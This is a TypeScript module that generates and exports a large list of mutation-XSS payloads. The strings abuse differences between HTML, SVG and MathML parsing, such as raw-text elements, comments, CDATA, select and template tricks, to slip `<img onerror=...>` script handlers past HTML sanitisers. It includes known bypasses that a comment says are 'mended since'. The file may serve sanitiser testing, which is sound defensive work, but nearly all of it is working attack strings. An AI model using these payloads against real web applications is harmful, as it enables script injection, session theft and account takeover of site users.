import { run } from './run.ts';

const pay = `<img src=x onerror=${run}>`;

/** Elements whose text is read otherwise in HTML than in SVG and MathML, or otherwise by one parser than by the next. */
const raw = [
  'style',
  'title',
  'textarea',
  'noscript',
  'xmp',
  'iframe',
  'noembed',
  'noframes',
  'script',
  'template',
  'select',
];
/** Ways from foreign elements back into HTML, and breaks that throw the parser out of them. */
const ways = [
  ...[
    '<svg>',
    '<svg></p>',
    '<svg><desc>',
    '<svg><title>',
    '<svg><foreignObject>',
    '<math>',
    '<math></p>',
    '<math><mtext>',
  ],
  ...[
    '<math><mi>',
    '<math><annotation-xml encoding="text/html">',
    '<math><mtext><table><mglyph>',
    '<form><math><mtext></form><form><mglyph>',
  ],
];

/** An attribute in one reading is an element in the other. */
const nested = ways.flatMap((way) => raw.map((tag) => `${way}<${tag}><a title="</${tag}>${pay}">`));

/** Comments and sections that end earlier for one parser than for the other. */
const comments = ways
  .slice(0, 10)
  .flatMap((way) => [`${way}<style><!--</style><a title="-->${pay}">`, `${way}<![CDATA[><a title="]]>${pay}">`]);

/** Found by those who look for holes in sanitisers, and mended since. */
const found = [
  `<noscript><p title="</noscript>${pay}"></noscript>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run}&gt;">`,
  `<math><mtext><table><mglyph><style><math>${pay}</math></style></mglyph></table></mtext></math>`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${run}>`,
  `<svg></p><style><a id="</style><img src=1 onerror=${run}>">`,
  `<svg><p><style><g title="</style>${pay}"></g></style></p></svg>`,
  `<math><annotation-xml encoding="text/html"><style>${pay}</style></annotation-xml></math>`,
  `<svg><annotation-xml><foreignObject><style><!--</style><p id="--><img src='x' onerror='${run}'>">`,
  `<math><mi//xlink:href="data:x,<script>${run}</script>">${pay}</math>`,
  `<style></style><style/><!--</style>-->${pay}`,
  `<math><mtext><option><FAKEFAKE><option></option><mglyph><svg><mtext><style><a title="</style><img src=# onerror='${run}'>"></style></svg></mglyph></mtext></math>`,
  `<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title="</style><img src onerror='${run}'>"></style></h1>`,
  `<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=${run} src>">`,
  `<svg><desc><table><desc><style><a title="</style>${pay}"></style></desc></table></desc></svg>`,
  `<table><caption><svg><title><table><caption></caption></table></title><style><a id="</style>${pay}"></style></svg></caption></table>`,
  `${'<div>'.repeat(64)}<table><caption><svg><style><a id="</style>${pay}">${'</div>'.repeat(64)}`,
  `<a><svg><desc><a><table><a></table><style><!--</style></svg><a id="-->${pay}">`,
  `<p><svg><foreignObject></p><p><style></svg><a id="</style>${pay}">`,
  `<svg><a><foreignobject><a><table><a></table><style><!--</style></svg><a id="-->${pay}">`,
  `<svg><![CDATA[<image xlink:href="]]>${pay}">`,
  `<svg><style>&lt;/style&gt;&lt;img src=x onerror=${run}&gt;</style></svg>`,
  `<?xml-stylesheet > ${pay} ?>`,
  `<?img ><img src=x onerror=${run}?>`,
  `<!--<img src="--!>${pay}">`,
  `<!--[if gte IE 4]>${pay}<![endif]-->`,
  `<![if !IE]>${pay}<![endif]>`,
  `<comment><img src="</comment>${pay}"></comment>`,
  `<plaintext><p title="</plaintext>${pay}">`,
  `<listing>&lt;img src=x onerror=${run}&gt;</listing>`,
  `<pre>\n\n&lt;/pre&gt;${pay}</pre>`,
  `<textarea>\n</textarea>${pay}`,
  `<a title='x&#10;"'><b title="\`\`onmouseover=${run}">e</b></a>`,
  `<div id="\`\`onclick=${run}//">e</div>`,
  `<x-y is="a&quot;><img src=x onerror=${run}>" onclick=${run}>e</x-y>`,
  `<select><template><style><!--</style><a rel="--></style></template></select>${pay}">`,
  `<select><style><math></select>${pay}`,
  `<select><iframe></select>${pay}`,
  `<template shadowrootmode=open><slot></slot>${pay}</template>`,
  `<div><template shadowrootmode=closed><style></style>${pay}</template></div>`,
  `<noscript><style></noscript>${pay}`,
  `<noscript><!--</noscript>${pay}-->`,
  `<b><style><style/>${pay}`,
  `<frameset><noframes><style></noframes>${pay}`,
  `<table><tr><td><svg><p></td></tr></table>${pay}`,
  `<b><p></b>${pay}</p>`,
  `<a href="<x>"><table><a>${pay}</table></a>`,
  `<nobr><i><nobr>${pay}`,
  `<button><p><button>${pay}`,
  `<math><mtext><svg><mtext><textarea><path id="</textarea>${pay}">`,
  `<svg><math><svg><style><b title="</style>${pay}">`,
  `<xmp><p title="</xmp>${pay}">`,
  `<noembed><p title="</noembed>${pay}">`,
  `<noframes><p title="</noframes>${pay}">`,
  `<iframe><p title="</iframe>${pay}">`,
  `<title><p title="</title>${pay}">`,
  `<textarea><p title="</textarea>${pay}">`,
  `<script><p title="</script>${pay}">`,
  `<template><p title="</template>${pay}">`,
  `<template>${pay}</template>${pay}`,
  `<div><template shadowrootmode=open>${pay}</template></div>${pay}`,
];

/** What is harmless when it is read, and no longer so when it is read again. */
export const byMutation: readonly string[] = [...nested, ...comments, ...found];
